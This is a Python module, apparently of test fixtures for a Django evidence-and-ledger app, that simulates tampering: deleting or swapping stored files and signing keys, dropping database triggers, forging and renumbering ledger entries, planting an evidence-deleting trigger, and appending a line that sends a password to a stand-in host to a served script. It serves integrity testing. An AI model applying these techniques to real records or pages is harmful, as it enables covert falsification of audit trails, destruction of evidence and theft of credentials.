"""What takes more than one line of SQL: files and keys, forged entries, an index without its words."""

import gzip
import json
from contextlib import ExitStack
from pathlib import Path

from django.conf import settings
from django.contrib.staticfiles.storage import staticfiles_storage
from django.db import connection
from django.db.models import QuerySet

from sanzhi.documents.models import Document
from sanzhi.kernel.actor import system
from sanzhi.kernel.models import SearchText
from sanzhi.kernel.search import _coded
from sanzhi.kernel.storage import store
from sanzhi.ledger.canonical import salted, spelt_entry
from sanzhi.ledger.commands import EraseEntry, ResealRows, erase_entry, reseal_rows
from sanzhi.ledger.models import Entry, RowSeal
from sanzhi.ledger.note import SigningKey
from sanzhi.ledger.sealing import spelt_row
from sanzhi.organisation.models import Unit
from sanzhi.recordings.models import Recording

LOCKS = ("ledger_entry_kept", "ledger_entry_only_erased", "ledger_rowseal_kept", "ledger_rowseal_only_erased")
MORE = (
    "ledger_leaf_kept",
    "ledger_leaf_unchanged",
    "ledger_waiting_unchanged",
    "ledger_waiting_kept_until_leaf",
)
undone = ExitStack()  # what a rollback does not bring back: files and settings


def unlocked(statement: str, row: str) -> tuple[str, str]:
    return ";".join([*(f"DROP TRIGGER {name}" for name in (*LOCKS, *MORE)), statement]), row


def sql(*statements: str) -> None:
    with connection.cursor() as cursor:
        for statement in statements:
            cursor.execute(statement)


def one(question: str) -> object:
    with connection.cursor() as cursor:
        cursor.execute(question)
        return cursor.fetchone()[0]


def _write(path: Path, content: bytes | None) -> None:
    before, mode = path.read_bytes(), path.stat().st_mode
    path.chmod(0o600)

    def back() -> None:
        path.unlink(missing_ok=True)
        path.write_bytes(before)
        path.chmod(mode)

    undone.callback(back)
    path.unlink()
    if content is not None:
        path.write_bytes(content)


def _paper() -> Path:
    return store().path(Document.objects.exclude(sha256="").earliest("id").sha256)


def _recording() -> Path:
    return store().path(Recording.objects.earliest("id").sha256)


def replaced_paper() -> None:
    _write(_paper(), b"%PDF-1.7 another")


def deleted_paper() -> None:
    _write(_paper(), None)


def replaced_recording() -> None:
    _write(_recording(), b"another film")


def deleted_recording() -> None:
    _write(_recording(), None)


def _log() -> Path:
    return Path(settings.SANZHI_LEDGER_DIR) / "log"


def _tile() -> Path:
    return next(path for path in sorted((_log() / "tile" / "0").rglob("*")) if path.is_file())


def changed_tile() -> None:
    _write(_tile(), b"X" + _tile().read_bytes()[1:])


def deleted_tile() -> None:
    _write(_tile(), None)


def deleted_checkpoint() -> None:
    _write(_log() / "checkpoint", None)


def _key() -> Path:
    return Path(settings.SANZHI_LEDGER_DIR) / "key"


def another_key() -> None:
    _write(_key(), f"{SigningKey.generate('localhost:8000/ledger').private_line()}\n".encode())


def deleted_key() -> None:
    _write(_key(), None)


def _script() -> Path:
    """Under the name by which the pages ask for it."""
    return Path(settings.STATIC_ROOT) / staticfiles_storage.stored_name("ui/screen.js")


def changed_script() -> None:
    _write(_script(), _script().read_bytes() + b"fetch('//x', {body: password})")


def changed_compressed_script() -> None:
    compressed = Path(f"{_script()}.gz")
    _write(compressed, gzip.compress(b"fetch('//x', {body: password})"))


def deleted_script() -> None:
    _write(_script(), None)


def added_script() -> None:
    path = Path(settings.STATIC_ROOT) / "spoil.js"
    undone.callback(path.unlink)
    path.write_text("fetch('//x')")


def another_secret() -> None:
    before = settings.SECRET_KEY
    undone.callback(setattr, settings, "SECRET_KEY", before)
    settings.SECRET_KEY = "another" * 10


def unindexed() -> None:
    row = SearchText.objects.earliest("id")
    with connection.cursor() as cursor:
        cursor.execute(
            "INSERT INTO kernel_grams (kernel_grams, rowid, grams) VALUES ('delete', %s, %s)",
            [row.pk, _coded(row.text)],
        )


def trigger_under_a_name_of_sqlite() -> None:
    """No statement may create it; the schema's own table takes it as it is written."""
    made = (
        "CREATE TRIGGER sqlite_stat1 AFTER INSERT ON organisation_unit BEGIN DELETE FROM cases_evidence; END"
    )
    sql(
        "PRAGMA writable_schema = ON",
        "INSERT INTO sqlite_master (type, name, tbl_name, rootpage, sql)"
        f" VALUES ('trigger', 'sqlite_stat1', 'organisation_unit', 0, '{made}')",
        "PRAGMA writable_schema = OFF",
    )


def hollow_lock() -> None:
    sql(
        "DROP TRIGGER ledger_leaf_kept",
        "CREATE TRIGGER ledger_leaf_kept BEFORE DELETE ON ledger_leaf BEGIN SELECT 1; END",
    )


def emptied_queue() -> None:
    sql(f"DROP TRIGGER {MORE[3]}", "DELETE FROM ledger_waiting")


def newest_taken_out() -> None:
    """The last sign-in with everything that speaks of it: row, seal, place in the queue, entry."""
    newest = Entry.objects.latest("id")
    sql(
        *(f"DROP TRIGGER {name}" for name in (*LOCKS, *MORE)),
        f"DELETE FROM organisation_signin WHERE id = {newest.subject_id}",
        f"DELETE FROM ledger_rowseal WHERE entry_id = {newest.pk}",
        f"DELETE FROM ledger_waiting WHERE entry_id = {newest.pk}",
        f"DELETE FROM ledger_entry WHERE id = {newest.pk}",
    )


def numbers_swapped() -> None:
    """An older entry takes the number of a newer one, and its seals stand newest: what it said then counts again."""
    older, newer = (
        each.entry_id for each in (_seals_of_proceeding().earliest("id"), _seals_of_proceeding().latest("id"))
    )
    places = ("ledger_entry.id", "ledger_leaf.entry_id", "ledger_waiting.entry_id", "ledger_rowseal.entry_id")
    moved = [
        f"UPDATE {table} SET {column} = {to} WHERE {column} = {was}"
        for table, column in (place.split(".") for place in places)
        for was, to in ((older, -1), (newer, older), (-1, newer))
    ]
    sql("PRAGMA defer_foreign_keys = ON", *(f"DROP TRIGGER {name}" for name in (*LOCKS, *MORE)), *moved)
    keys = list(RowSeal.objects.order_by("entry_id", "id").values_list("id", flat=True))
    sql(
        "UPDATE ledger_rowseal SET id = -id",
        *(
            f"UPDATE ledger_rowseal SET id = {place} WHERE id = {-key}"
            for place, key in enumerate(keys, start=1)
        ),
    )


def _seals_of_proceeding() -> QuerySet[RowSeal]:
    """It goes on from step to step: each seal tells another state."""
    return RowSeal.objects.filter(table="cases.proceeding")


def _seal_of_changed_unit() -> tuple[Unit, str, str]:
    unit = Unit.objects.earliest("id")
    sql(f"UPDATE organisation_unit SET name = 'X' WHERE id = {unit.pk}")
    salt = "ab" * 32
    return unit, salt, salted(salt, spelt_row(Unit.objects.get(pk=unit.pk)))


def forged_entry() -> None:
    """All that follows from the open source: salt, digest, seal. Only the stamp cannot be made."""
    unit, salt, digest = _seal_of_changed_unit()
    entry = Entry.objects.filter(subject_kind="organisation.unit").earliest("id")
    seal = RowSeal(table="organisation.unit", row=unit.pk, salt=salt, digest=digest)
    entry.pk, entry.salt, entry.facts = None, salt, {"name": "X"}
    entry.digest = salted(salt, spelt_entry(entry, [seal]))
    _insert(entry, seal)


def repeated_entry() -> None:
    seal = RowSeal.objects.filter(table="organisation.unit").earliest("id")
    entry = seal.entry
    entry.pk = seal.pk = None
    _insert(entry, seal)


def _insert(entry: Entry, seal: RowSeal) -> None:
    with connection.cursor() as cursor:
        cursor.execute(
            "INSERT INTO ledger_entry (authority, event, facts, actor_key, actor_name, subject_kind, subject_id,"
            " happened_at, salt, digest, stamp) VALUES (%s, %s, %s, %s, %s, %s, %s, %s, %s, %s, %s) RETURNING id",
            [entry.authority, entry.event, json.dumps(entry.facts), entry.actor_key, entry.actor_name, entry.subject_kind,
             entry.subject_id, connection.ops.adapt_datetimefield_value(entry.happened_at), entry.salt, entry.digest, entry.stamp],
        )  # fmt: skip
        (key,) = cursor.fetchone()
        cursor.execute(
            'INSERT INTO ledger_rowseal (entry_id, "table", "row", salt, digest) VALUES (%s, %s, %s, %s, %s)',
            [key, seal.table, seal.row, seal.salt, seal.digest],
        )


def resealed() -> None:
    unit = Unit.objects.earliest("id")
    sql(f"UPDATE organisation_unit SET name = 'X' WHERE id = {unit.pk}")
    reseal_rows(system(), ResealRows(table="organisation.unit", rows=[unit.pk], reason="升级到下一版"))


def sealed_by_nobody() -> None:
    """Evidence goes, and a seal that hangs on no entry says that it was deleted."""
    sql(
        'INSERT INTO ledger_rowseal (entry_id, "table", "row", digest)'
        " SELECT 999999, 'cases.evidence', MIN(id), '' FROM cases_evidence",
        "DELETE FROM cases_evidence WHERE id = (SELECT MIN(id) FROM cases_evidence)",
    )


def erased_and_rewritten() -> None:
    """After a lawful erasure the entry says of somebody else that he did it."""
    entry = Entry.objects.filter(event="cases.lead_registered").earliest("id")
    erase_entry(system(entry.authority), EraseEntry(entry=entry.pk, reason="应本人请求"))
    sql(
        *(f"DROP TRIGGER {name}" for name in LOCKS),
        f"UPDATE ledger_entry SET actor_name = '程守正' WHERE id = {entry.pk}",
    )
